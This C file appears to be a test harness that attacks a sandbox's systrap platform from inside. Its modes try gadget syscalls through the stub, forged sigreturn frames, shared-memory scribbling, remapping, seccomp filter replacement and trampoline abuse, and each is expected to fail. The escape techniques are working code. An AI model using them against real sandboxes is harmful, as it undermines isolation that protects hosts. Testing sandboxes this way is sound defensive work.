// Attacks on the systrap platform from inside the sandbox. Run it only under
// `rvisor do --platform=systrap`: it relies on the stub's layout, and natively its raw
// syscalls would really create the directory and kill the victim.
//
//   systrap_escape MODE MKDIR_PATH VICTIM_PID
//
// The stub's code page is at STUB (above every app mapping), its shared window right
// after it: read-only request queue and programs, then one 16 KiB block per thread
// (header, then the thread's signal stack). Each mode prints what the Sentry answered;
// the harness checks the host: MKDIR_PATH must not exist, the victim must be alive.
//
//   gadget     syscalls made by jumping to the stub's own `syscall` instruction (the
//              restorer's `mov eax, 15; syscall; ud2`): write, mkdir, kill, seccomp,
//              mprotect of the stub, futex on app memory. Then prints "waiting", reads
//              stdin to EOF (the harness checks the host), and finally calls exit(2)
//              through the stub, which the filter allows: the thread leaves the host
//              process, and the Sentry must kill the program (SIGKILL), not hang.
//   sigreturn  a forged rt_sigreturn through that instruction whose frame blocks
//              SIGSYS on the host, then mkdir: the stub dies, the program is killed.
//   altstack   a forged frame that moves the host signal stack into app memory, with
//              a fake slot whose self-pointer is right, then mkdir: the handler's
//              futex on app memory traps while SIGSYS is blocked: killed.
//   unkickable a forged frame that blocks SIGURG (the Sentry's kick) on the host, then
//              a loop without syscalls; another thread sends SIGTERM to the group: the
//              Sentry cannot interrupt the loop, and must kill the program, not hang.
//   slot       writes to the read-only queue page (SIGSEGV), then a second thread
//              scribbles over the main thread's slot and signal frame while the main
//              thread makes syscalls (some from a site syscall patching rewrites; the
//              scribbling covers its save area and event kind), and finally marks the
//              slot dead: killed.
//   remap      mmap/munmap/mprotect/mremap over the stub region: all refused, the
//              code page unchanged, syscalls still served.
//   filter     seccomp/prctl installing an allow-all filter (directly and through the
//              stub), then mkdir: still the Sentry's answer.
//   recycle    children that leave parked threads in their stub, scribble over every
//              other thread's block (header, signal frame, state word) and exit; the
//              Sentry recycles their stub processes, and the next children, which
//              start threads of their own, must run as if on new ones.
//   usertrap   (with --systrap-patch) the routes syscall patching adds: a site is
//              patched, then the trampoline is entered with a forged site (r11), with
//              a real site's entry but another number in rax, with GS at app memory
//              (the fallback), with GS at a forged block in app memory (its own
//              registers back, nothing else); and a child that unmaps the table
//              dies of SIGSEGV at the patched site.
#define _GNU_SOURCE
#include <errno.h>
#include <linux/filter.h>
#include <linux/futex.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <sched.h>
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/ucontext.h>
#include <sys/wait.h>
#include <unistd.h>

#define STUB 0x7fffff000000UL
#define WINDOW (STUB + 0x1000)
#define SLOTS (STUB + 0x10000)
#define BLOCK 0x4000UL
#define HDR 0x400UL

static const char *dir;
static long victim;

long ut_site(void); // a patchable getppid site (see "syscall patching's routes")

static long raw6(long nr, long a, long b, long c, long d, long e, long f) {
    long ret;
    register long r10 __asm__("r10") = d;
    register long r8 __asm__("r8") = e;
    register long r9 __asm__("r9") = f;
    __asm__ volatile("syscall"
                     : "=a"(ret)
                     : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                     : "rcx", "r11", "memory");
    return ret;
}

static long raw3(long nr, long a, long b, long c) { return raw6(nr, a, b, c, 0, 0, 0); }

static void show(const char *what, long r) {
    if (r < 0 && r > -4096)
        printf("%s = -%s\n", what, strerrorname_np((int)-r) ? strerrorname_np((int)-r) : "E?");
    else
        printf("%s = %ld\n", what, r);
    fflush(stdout);
}

// ---- the stub's own syscall instruction

static uint8_t *gadget; // the `syscall` of `mov eax, 15; syscall; ud2`

static void find_gadget(void) {
    static const uint8_t pat[] = {0xb8, 0x0f, 0, 0, 0, 0x0f, 0x05, 0x0f, 0x0b};
    for (uint8_t *p = (uint8_t *)STUB; p + sizeof pat <= (uint8_t *)STUB + 4096; p++) {
        if (!memcmp(p, pat, sizeof pat)) {
            gadget = p + 5;
            printf("found the stub's restorer syscall\n");
            fflush(stdout);
            return;
        }
    }
    printf("no restorer in the stub page\n");
    exit(3);
}

static sigjmp_buf jb;
static volatile long got_rax;

static void on_ill(int sig, siginfo_t *si, void *ucv) {
    (void)sig;
    (void)si;
    got_rax = ((ucontext_t *)ucv)->uc_mcontext.gregs[REG_RAX];
    siglongjmp(jb, 1);
}

// Runs syscall `nr` on the stub's instruction; its `ud2` comes back as SIGILL.
static long via_stub(long nr, long a, long b, long c) {
    if (sigsetjmp(jb, 1) == 0) {
        register long r10 __asm__("r10") = 0;
        __asm__ volatile("jmp *%[g]" ::"a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), [g] "r"(gadget) : "memory");
        __builtin_unreachable();
    }
    return got_rax;
}

static void catch_ill(void) {
    struct sigaction sa = {0};
    sa.sa_sigaction = on_ill;
    sa.sa_flags = SA_SIGINFO | SA_NODEFER;
    sigaction(SIGILL, &sa, NULL);
}

static struct sock_filter allow_all[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
static struct sock_fprog allow_prog = {1, allow_all};

static void mode_gadget(void) {
    find_gadget();
    catch_ill();
    static const char msg[] = "written through the stub's syscall\n";
    show("write via stub", via_stub(SYS_write, 1, (long)msg, sizeof msg - 1));
    show("mkdir via stub", via_stub(SYS_mkdir, (long)dir, 0755, 0));
    show("kill victim via stub", via_stub(SYS_kill, victim, SIGKILL, 0));
    show("seccomp allow-all via stub", via_stub(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, (long)&allow_prog));
    show("mprotect stub rwx via stub", via_stub(SYS_mprotect, STUB, 4096, PROT_READ | PROT_WRITE | PROT_EXEC));
    static uint32_t word;
    show("futex wake on app memory via stub", via_stub(SYS_futex, (long)&word, FUTEX_WAKE, 1));
    show("getppid via stub", via_stub(SYS_getppid, 0, 0, 0) >= 0 ? 0 : -1);
    printf("waiting\n");
    fflush(stdout);
    char c;
    while (raw3(SYS_read, 0, (long)&c, 1) == 1) {
    }
    printf("exit through the stub\n");
    fflush(stdout);
    via_stub(SYS_exit, 0, 0, 0);
    printf("still here after exit through the stub\n");
}

// ---- forged rt_sigreturn frames

static ucontext_t forged;
static char resume_stack[64 * 1024] __attribute__((aligned(16)));

static void after_sigreturn(void) {
    // Runs with whatever the forged frame set on the host side.
    long r = raw3(SYS_mkdir, (long)dir, 0755, 0);
    show("mkdir after the forged sigreturn", r);
    raw3(SYS_exit_group, 0, 0, 0);
    for (;;) {
    }
}

static void forge_to(void (*rip)(void), uint64_t mask, void *ss_sp, size_t ss_size, int ss_flags) {
    find_gadget();
    memset(&forged, 0, sizeof forged);
    forged.uc_mcontext.gregs[REG_RIP] = (greg_t)rip;
    forged.uc_mcontext.gregs[REG_RSP] = (greg_t)(resume_stack + sizeof resume_stack - 8);
    forged.uc_mcontext.gregs[REG_CSGSFS] = (greg_t)(0x33ULL | (0x2bULL << 48));
    forged.uc_mcontext.gregs[REG_EFL] = 0x202;
    forged.uc_stack.ss_sp = ss_sp;
    forged.uc_stack.ss_size = ss_size;
    forged.uc_stack.ss_flags = ss_flags;
    memcpy(&forged.uc_sigmask, &mask, 8); // the kernel reads 8 bytes
    printf("forging a sigreturn frame\n");
    fflush(stdout);
    // rt_sigreturn reads the frame at rsp - 8: the ucontext at rsp.
    __asm__ volatile("mov %0, %%rsp\n\tjmp *%1" ::"r"(&forged), "r"(gadget), "a"(15L) : "memory");
    __builtin_unreachable();
}

static void forge(uint64_t mask, void *ss_sp, size_t ss_size, int ss_flags) {
    forge_to(after_sigreturn, mask, ss_sp, ss_size, ss_flags);
}

static void mode_sigreturn(void) {
    // ss_flags 0x7 is invalid: the host keeps the real signal stack.
    forge(1ULL << (SIGSYS - 1), NULL, 0, 0x7);
}

static void mode_altstack(void) {
    uint8_t *area = aligned_alloc(BLOCK, 2 * BLOCK);
    memset(area, 0, 2 * BLOCK);
    *(uint64_t *)(area + 8) = (uint64_t)area; // a slot whose self-pointer is right
    *(uint32_t *)area = 1;                    // "idle"
    forge(0, area + HDR, BLOCK - HDR, 0);
}

static void spin_forever(void) {
    for (;;)
        __asm__ volatile("" ::: "memory");
}

static void *killer(void *arg) {
    (void)arg;
    usleep(200 * 1000);
    printf("sending SIGTERM to the group\n");
    fflush(stdout);
    kill(getpid(), SIGTERM);
    for (;;)
        pause();
    return NULL;
}

static void mode_unkickable(void) {
    pthread_t t;
    pthread_create(&t, NULL, killer, NULL);
    forge_to(spin_forever, 1ULL << (SIGURG - 1), NULL, 0, 0x7);
}

// ---- the shared window

static sigjmp_buf segv_jb;
static void on_segv(int sig) {
    (void)sig;
    siglongjmp(segv_jb, 1);
}

static volatile int stop_hammer;

static void *hammer(void *arg) {
    (void)arg;
    volatile uint64_t *slot0 = (volatile uint64_t *)SLOTS;
    uint64_t x = 0x9e3779b97f4a7c15ULL;
    for (int round = 0; round < 2000000 && !stop_hammer; round++) {
        x ^= x << 13, x ^= x >> 7, x ^= x << 17;
        // header fields the handler writes (signo, siginfo, ucontext, fs, gs, cpu)...
        slot0[8 + (x % 6)] = x;
        // ...and the signal frame itself
        ((volatile uint64_t *)(SLOTS + HDR))[(x >> 8) % ((BLOCK - HDR) / 8)] = x;
        // ...and, with syscall patching, the save area and the kind of event (0: a
        // patched call)
        slot0[0x200 / 8 + (x >> 20) % 19] = x;
        if ((x >> 40) % 5 == 0)
            *(volatile uint32_t *)(SLOTS + 0x40) = 0;
        if (round % 100000 == 0)
            raw3(SYS_mkdir, (long)dir, 0755, 0);
    }
    printf("marking the slot dead\n");
    fflush(stdout);
    for (;;)
        *(volatile uint32_t *)SLOTS = 0;
    return NULL;
}

static void mode_slot(void) {
    signal(SIGSEGV, on_segv);
    if (sigsetjmp(segv_jb, 1) == 0) {
        *(volatile uint32_t *)WINDOW = 1;
        printf("write to the request queue page: allowed\n");
    } else {
        printf("write to the request queue page: SIGSEGV\n");
    }
    if (sigsetjmp(segv_jb, 1) == 0) {
        *(volatile uint64_t *)(WINDOW + 0x4000) = 0;
        printf("write to the filter page: allowed\n");
    } else {
        printf("write to the filter page: SIGSEGV\n");
    }
    signal(SIGSEGV, SIG_DFL);
    printf("hammering\n");
    fflush(stdout);
    pthread_t t;
    pthread_create(&t, NULL, hammer, NULL);
    long ppid = getppid();
    for (long i = 0;; i++) {
        long r = i % 2 ? raw3(SYS_getppid, 0, 0, 0) : ut_site();
        if (r != ppid && i % 1000 == 0) {
            printf("getppid = %ld\n", r);
            fflush(stdout);
        }
    }
}

// ---- mapping over the stub

static uint64_t sum_stub(void) {
    uint64_t s = 0;
    for (uint64_t *p = (uint64_t *)STUB; p < (uint64_t *)(STUB + 4096); p++)
        s = s * 31 + *p;
    return s;
}

static void mode_remap(void) {
    uint64_t before = sum_stub();
    long anon = MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED;
    show("mmap fixed over the stub", raw6(SYS_mmap, STUB, 4096, 7, anon, -1, 0));
    show("mmap fixed over the window", raw6(SYS_mmap, SLOTS, 0x10000, 3, anon, -1, 0));
    show("mmap fixed across the boundary", raw6(SYS_mmap, STUB - 4096, 8192, 3, anon, -1, 0));
    show("munmap the stub", raw3(SYS_munmap, STUB, 0x100000, 0));
    show("munmap across the boundary", raw3(SYS_munmap, STUB - 0x10000, 0x20000, 0));
    show("mprotect the stub rwx", raw3(SYS_mprotect, STUB, 4096, 7));
    show("mprotect the window rw", raw3(SYS_mprotect, WINDOW, 0x5000, 3));
    void *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    show("mremap onto the stub", raw6(SYS_mremap, (long)p, 4096, 4096, MREMAP_MAYMOVE | MREMAP_FIXED, STUB, 0));
    show("madvise dontneed the window", raw3(SYS_madvise, SLOTS, 0x10000, MADV_DONTNEED));
    printf("stub code unchanged: %s\n", sum_stub() == before ? "yes" : "no");
    printf("getppid still served: %s\n", raw3(SYS_getppid, 0, 0, 0) == getppid() ? "yes" : "no");
    show("mkdir", raw3(SYS_mkdir, (long)dir, 0755, 0));
}

// ---- another filter

static void mode_filter(void) {
    show("seccomp allow-all", raw3(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, (long)&allow_prog));
    show("seccomp allow-all with TSYNC", raw3(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_TSYNC, (long)&allow_prog));
    show("prctl PR_SET_SECCOMP filter", raw6(SYS_prctl, PR_SET_SECCOMP, SECCOMP_MODE_FILTER, (long)&allow_prog, 0, 0, 0));
    show("seccomp strict", raw3(SYS_seccomp, SECCOMP_SET_MODE_STRICT, 0, 0));
    find_gadget();
    catch_ill();
    show("seccomp allow-all via stub", via_stub(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, (long)&allow_prog));
    show("mkdir", raw3(SYS_mkdir, (long)dir, 0755, 0));
    show("kill victim", raw3(SYS_kill, victim, SIGKILL, 0));
}

// ---- a stub recycled after an app scribbled over it

static void *idle_thread(void *arg) {
    return arg;
}

static void *busy_thread(void *arg) {
    long want = getpid(), ok = 1;
    for (int i = 0; i < 200; i++)
        ok &= raw3(SYS_getpid, 0, 0, 0) == want;
    return (void *)ok;
}

static void mode_recycle(void) {
    const int rounds = 20;
    for (int round = 0; round < rounds; round++) {
        pid_t scribbler = fork();
        if (scribbler == 0) {
            pthread_t t[3];
            for (int i = 0; i < 3; i++)
                pthread_create(&t[i], NULL, idle_thread, NULL);
            for (int i = 0; i < 3; i++)
                pthread_join(t[i], NULL);
            // Once the exited threads sleep in their handlers (a thread still spinning
            // there would trip over the scribbles and take this stub down at once)...
            for (uint64_t b = 1; b < 16; b++)
                for (int i = 0; i < 100000; i++) {
                    uint32_t st = *(volatile uint32_t *)(SLOTS + b * BLOCK);
                    if (st == 0 || st >= 4) // unused, asleep in the handler, or scribbled on
                        break;
                    sched_yield();
                }
            // ...every block but the main thread's (0): their slots and signal frames.
            uint64_t x = 0x9e3779b97f4a7c15ULL + round;
            for (uint64_t b = 1; b < 16; b++) {
                volatile uint64_t *p = (volatile uint64_t *)(SLOTS + b * BLOCK);
                for (uint64_t i = 0; i < BLOCK / 8; i++) {
                    x ^= x << 13, x ^= x >> 7, x ^= x << 17;
                    p[i] = x;
                }
                uint32_t forged[] = {0, 4, 0xdeadbeef}; // dead, asleep, nonsense
                *(volatile uint32_t *)(SLOTS + b * BLOCK) = forged[(round + b) % 3];
            }
            _exit(7);
        }
        int st = 0;
        if (waitpid(scribbler, &st, 0) != scribbler || !WIFEXITED(st) || WEXITSTATUS(st) != 7) {
            printf("recycle: round %d: scribbler status %#x\n", round, st);
            return;
        }
        pid_t worker = fork();
        if (worker == 0) {
            pthread_t t[4];
            for (int i = 0; i < 4; i++)
                pthread_create(&t[i], NULL, busy_thread, NULL);
            long ok = 1;
            for (int i = 0; i < 4; i++) {
                void *r = NULL;
                pthread_join(t[i], &r);
                ok &= (long)r;
            }
            _exit(ok ? 0 : 3);
        }
        if (waitpid(worker, &st, 0) != worker || !WIFEXITED(st) || WEXITSTATUS(st) != 0) {
            printf("recycle: round %d: worker status %#x\n", round, st);
            return;
        }
    }
    printf("recycle: %d rounds ok\n", rounds);
}

// ---- syscall patching's routes

// A site of the shape patching rewrites, then `ret`; and helpers that enter the
// trampoline with a GS base of their choosing (rdi; 1: as it is), at rsi, with r11 =
// rdx (0: a forged site). After a
// patched call the site's `ret` (or forged_gs_back) brings them back.
__asm__(".pushsection .text\n"
        ".globl ut_site\n"
        "ut_site: mov $110, %eax\n syscall\n ret\n"
        ".globl enter_tramp\n"
        "enter_tramp:\n"
        "lea 1f(%rip), %rax\n push %rax\n"
        "test %rdx, %rdx\n jnz 2f\n lea 3f-7(%rip), %rdx\n"   /* no site: r11 names 3f */
        "2: cmp $1, %rdi\n je 4f\n wrgsbase %rdi\n"            /* 1: GS as it is */
        "4: mov %rdx, %r11\n mov %rsi, %r8\n mov $62, %eax\n"   /* rax: kill, which must not run */
        "mov %rcx, %rdi\n mov $9, %esi\n"
        "jmp *%r8\n"
        "3: add $8, %rsp\n"
        "1: xor %ecx, %ecx\n wrgsbase %rcx\n ret\n"
        ".globl forged_gs_call\n"
        "forged_gs_call:\n"
        "push %rbx\n wrgsbase %rdi\n jmp *%rsi\n"
        ".globl forged_gs_back\n"
        "forged_gs_back:\n"
        "xor %ecx, %ecx\n wrgsbase %rcx\n pop %rbx\n ret\n"
        ".popsection\n");
long ut_site(void);
long enter_tramp(uint64_t gs, uint64_t tramp, uint64_t r11, long victim_pid);
long forged_gs_call(uint64_t gs, uint64_t tramp);
void forged_gs_back(void);

static uint64_t usertrap_table(void) {
    FILE *f = fopen("/proc/self/maps", "r");
    char line[256];
    uint64_t at = 0;
    while (f && fgets(line, sizeof line, f))
        if (strstr(line, "[usertrap]")) at = strtoull(line, NULL, 16);
    if (f) fclose(f);
    return at;
}

static uint8_t fake_block[2 * BLOCK] __attribute__((aligned(BLOCK)));
static uint8_t *fake;

static void *forged_gs_thread(void *arg) {
    return (void *)forged_gs_call((uint64_t)fake, (uint64_t)arg);
}

static void mode_usertrap(void) {
    long want = getppid();
    for (int i = 0; i < 10; i++) ut_site();
    uint64_t table = usertrap_table();
    uint8_t *site = (uint8_t *)ut_site;
    printf("site patched: %s\n", table && site[0] == 0xff && site[1] == 0x24 && site[2] == 0x25 ? "yes" : "no");
    fflush(stdout);
    if (!table) return;
    uint64_t tramp = *(uint64_t *)table;
    uint64_t entry = *(uint32_t *)(site + 3);
    uint64_t fallback = entry + 15 + *(int32_t *)(entry + 11);
    printf("patched site serves: %s\n", ut_site() == want ? "yes" : "no");
    fflush(stdout);

    // r11 names no site: a syscall whose number the kernel does not know (-1).
    long r = enter_tramp(1, tramp, 0, victim);
    show("trampoline with a forged site", r);
    // A real site's entry with rax = kill: the site's own number runs (getppid).
    r = enter_tramp(1, tramp, fallback, victim);
    printf("trampoline with a real site and rax = kill: %s\n", r == want ? "the site's getppid" : "something else");
    fflush(stdout);
    // GS at app memory that is no block: the entry's trapping syscall serves the call.
    static uint64_t not_a_block[4];
    r = enter_tramp((uint64_t)not_a_block, tramp, fallback, victim);
    printf("GS at app memory: %s\n", r == want ? "the fallback's getppid" : "something else");
    // GS base 0 on the host (the app's own wrgsbase): the trampoline's load faults.
    r = enter_tramp(0, tramp, fallback, victim);
    printf("GS base 0: %s\n", r == want ? "the fallback's getppid" : "something else");
    fflush(stdout);

    // GS at a forged block in app memory (its self-pointer right): the trampoline
    // posts to it and waits there, on a futex the Sentry serves as the app's own;
    // this thread then plays the Sentry and sends it to forged_gs_back.
    fake = fake_block + BLOCK;
    *(uint64_t *)(fake + 8) = (uint64_t)fake;
    pthread_t th;
    pthread_create(&th, NULL, forged_gs_thread, (void *)tramp);
    volatile uint32_t *state = (volatile uint32_t *)fake;
    for (int i = 0; i < 5000 && *state != 4; i++) usleep(1000);
    printf("forged block: the trampoline waits on app memory: %s\n", *state == 4 ? "yes" : "no");
    fflush(stdout);
    *(uint32_t *)(fake + 0x10) = 0;                               // CMD_RESUME
    *(uint64_t *)(fake + 0x200 + 13 * 8) = 4242;                  // rax
    *(uint64_t *)(fake + 0x200 + 16 * 8) = (uint64_t)forged_gs_back; // rip
    __atomic_store_n(state, 1, __ATOMIC_SEQ_CST);
    syscall(SYS_futex, state, FUTEX_WAKE, 1, NULL, NULL, 0);
    void *ret;
    pthread_join(th, &ret);
    printf("forged block: the thread came back with rax = %ld\n", (long)ret);
    r = raw3(SYS_mkdir, (long)dir, 0700, 0);
    show("mkdir", r);

    // Without its table, a patched site faults.
    pid_t pid = fork();
    if (pid == 0) {
        munmap((void *)table, 0x4000);
        ut_site();
        _exit(0);
    }
    int st = 0;
    waitpid(pid, &st, 0);
    printf("unmapped table: the patched site %s\n", WIFSIGNALED(st) && WTERMSIG(st) == SIGSEGV ? "faults (SIGSEGV)" : "does something else");
    printf("patched site still serves: %s\n", ut_site() == want ? "yes" : "no");
}

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: systrap_escape MODE MKDIR_PATH VICTIM_PID\n");
        return 2;
    }
    dir = argv[2];
    victim = atol(argv[3]);
    if (victim <= 1) {
        fprintf(stderr, "refusing victim pid %ld\n", victim);
        return 2;
    }
    const char *m = argv[1];
    if (!strcmp(m, "gadget")) mode_gadget();
    else if (!strcmp(m, "sigreturn")) mode_sigreturn();
    else if (!strcmp(m, "altstack")) mode_altstack();
    else if (!strcmp(m, "unkickable")) mode_unkickable();
    else if (!strcmp(m, "slot")) mode_slot();
    else if (!strcmp(m, "remap")) mode_remap();
    else if (!strcmp(m, "filter")) mode_filter();
    else if (!strcmp(m, "recycle")) mode_recycle();
    else if (!strcmp(m, "usertrap")) mode_usertrap();
    else {
        fprintf(stderr, "unknown mode %s\n", m);
        return 2;
    }
    printf("done\n");
    return 0;
}
